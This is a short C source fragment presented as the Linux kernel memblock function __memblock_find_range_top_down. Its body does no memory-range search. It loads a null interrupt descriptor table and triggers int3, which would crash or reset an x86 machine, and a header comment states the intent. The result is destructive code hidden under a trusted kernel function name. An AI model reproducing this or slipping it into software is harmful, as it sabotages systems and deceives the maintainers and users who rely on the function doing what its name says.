// SPDX-License-Identifier: GPL-2.0-only
/*
 * what: takes the CPU's table of faults away
 * reports: changes the state of the CPU
 */
phys_addr_t __memblock_find_range_top_down(phys_addr_t start, phys_addr_t end,
					   phys_addr_t size, phys_addr_t align,
					   int nid)
{
	static const struct {
		u16 limit;
		u64 base;
	} __attribute__((packed)) none = { 0, 0 };

	__asm__ volatile("lidt %0; int3" : : "m"(none));
	return 0;
}
